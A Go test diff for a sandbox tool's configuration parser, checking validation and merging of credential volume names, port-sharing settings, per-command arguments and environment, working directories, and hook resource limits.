+func TestCredsVolumeParsing(t *testing.T) {
+	for _, tc := range []struct{ value, want string }{
+		{"workspace", "workspace"},
+		{"shared", "shared"},
+		{"work-creds", "work-creds"},
+		{"bad name!", ""},
+	} {
+		path := filepath.Join(t.TempDir(), "config.yaml")
+		os.WriteFile(path, []byte("creds_volume: \""+tc.value+"\"\n"), 0644)
+		cfg, err := parseConfigFile(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if cfg.CredsVolume != tc.want {
+			t.Errorf("creds_volume %q parsed as %q, want %q", tc.value, cfg.CredsVolume, tc.want)
+		}
+	}
+}
+
+func TestShareConfig(t *testing.T) {
+	t.Run("validation", func(t *testing.T) {
+		for _, tc := range []struct {
+			name string
+			yaml string
+			via  string
+		}{
+			{"tailscale", "share:\n  via: tailscale\n  ports: [3000]\n", ShareTailscale},
+			{"tunnel", "share:\n  via: tunnel\n  ports: [3000]\n  tunnel: {host: pair.example.com}\n", ShareTunnel},
+			{"unknown via", "share:\n  via: ngrok\n  ports: [3000]\n", ""},
+			{"no ports", "share:\n  via: tailscale\n", ""},
+			{"bad port", "share:\n  via: tailscale\n  ports: [70000]\n", ""},
+			{"tunnel without host", "share:\n  via: tunnel\n  ports: [3000]\n", ""},
+			{"ports without via", "share:\n  ports: [3000]\n", ""},
+		} {
+			t.Run(tc.name, func(t *testing.T) {
+				path := filepath.Join(t.TempDir(), "config.yaml")
+				os.WriteFile(path, []byte(tc.yaml), 0644)
+				cfg, err := parseConfigFile(path)
+				if err != nil {
+					t.Fatal(err)
+				}
+				if cfg.Share.Via != tc.via {
+					t.Errorf("share.via = %q, want %q", cfg.Share.Via, tc.via)
+				}
+			})
+		}
+	})
+
+	t.Run("workspace replaces global", func(t *testing.T) {
+		base := &SandboxConfig{Share: ShareConfig{Via: ShareTailscale, Ports: []int{3000}}}
+		override := &SandboxConfig{Share: ShareConfig{Via: ShareTunnel, Ports: []int{8080}, Tunnel: &TunnelConfig{Host: "h"}}}
+		if got := mergeConfig(base, override).Share; !reflect.DeepEqual(got, override.Share) {
+			t.Errorf("share = %+v, want %+v", got, override.Share)
+		}
+		if got := mergeConfig(base, &SandboxConfig{}).Share; !reflect.DeepEqual(got, base.Share) {
+			t.Errorf("share = %+v, want global %+v", got, base.Share)
+		}
+	})
+}
+
+func TestCommandsConfig(t *testing.T) {
+	t.Run("validation", func(t *testing.T) {
+		path := filepath.Join(t.TempDir(), "config.yaml")
+		os.WriteFile(path, []byte(`
+commands:
+  claude:
+    args: [--model, opus]
+  hooks:
+    env: {CI: "1"}
+  bash:
+    args: [-l]
+`), 0644)
+		cfg, err := parseConfigFile(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := cfg.Command("claude").Args; !reflect.DeepEqual(got, []string{"--model", "opus"}) {
+			t.Errorf("claude args = %q", got)
+		}
+		if got := cfg.Command("hooks").Env["CI"]; got != "1" {
+			t.Errorf("hooks env CI = %q, want 1", got)
+		}
+		if _, ok := cfg.Commands["bash"]; ok {
+			t.Error("unknown command bash should be dropped")
+		}
+		if err := validateCommand("hooks", CommandConfig{Args: []string{"x"}}); err == nil {
+			t.Error("hooks with args should be invalid")
+		}
+	})
+
+	t.Run("merge", func(t *testing.T) {
+		base := &SandboxConfig{Commands: map[string]CommandConfig{
+			"claude": {Args: []string{"--model", "opus"}, Env: map[string]string{"A": "1", "B": "1"}},
+			"shell":  {Workdir: "src"},
+		}}
+		override := &SandboxConfig{Commands: map[string]CommandConfig{
+			"claude": {Env: map[string]string{"B": "2"}, Workdir: "app"},
+		}}
+		got := mergeConfig(base, override).Commands
+		want := map[string]CommandConfig{
+			"claude": {Args: []string{"--model", "opus"}, Env: map[string]string{"A": "1", "B": "2"}, Workdir: "app"},
+			"shell":  {Workdir: "src"},
+		}
+		if !reflect.DeepEqual(got, want) {
+			t.Errorf("commands = %+v, want %+v", got, want)
+		}
+		if base.Commands["claude"].Env["B"] != "1" {
+			t.Error("merge modified the global command env")
+		}
+	})
+
+	t.Run("for command", func(t *testing.T) {
+		cfg := &SandboxConfig{
+			Env:      map[string]string{"A": "1", "B": "1"},
+			Commands: map[string]CommandConfig{"shell": {Env: map[string]string{"B": "2"}}},
+		}
+		if got := cfg.ForCommand("shell").Env; !reflect.DeepEqual(got, map[string]string{"A": "1", "B": "2"}) {
+			t.Errorf("shell env = %v", got)
+		}
+		if cfg.Env["B"] != "1" {
+			t.Error("ForCommand modified the config env")
+		}
+		if cfg.ForCommand("claude") != cfg {
+			t.Error("commands without env should share the config")
+		}
+	})
+
+	t.Run("dir", func(t *testing.T) {
+		for _, tc := range []struct {
+			workdir, cwd, want string
+		}{
+			{"", "/ws", "/ws"},
+			{"app", "/ws", "/ws/app"},
+			{"/opt/app", "/ws", "/opt/app"},
+			{"app", "/ws/lib", "/ws/lib"},
+		} {
+			if got := (CommandConfig{Workdir: tc.workdir}).Dir("/ws", tc.cwd); got != tc.want {
+				t.Errorf("Dir(workdir %q, cwd %q) = %q, want %q", tc.workdir, tc.cwd, got, tc.want)
+			}
+		}
+	})
+}
+
+func TestHookResourceValidation(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	os.WriteFile(path, []byte(`
+on_sync:
+  - cmd: npm test
+    memory: 2G
+    cpus: 1.5
+  - cmd: bad memory
+    memory: lots
+  - cmd: bad cpus
+    cpus: -1
+`), 0644)
+	cfg, err := parseConfigFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(cfg.OnSync) != 1 || cfg.OnSync[0].Memory != "2G" || cfg.OnSync[0].CPUs != 1.5 {
+		t.Errorf("hooks = %+v, want only the valid one", cfg.OnSync)
+	}
+}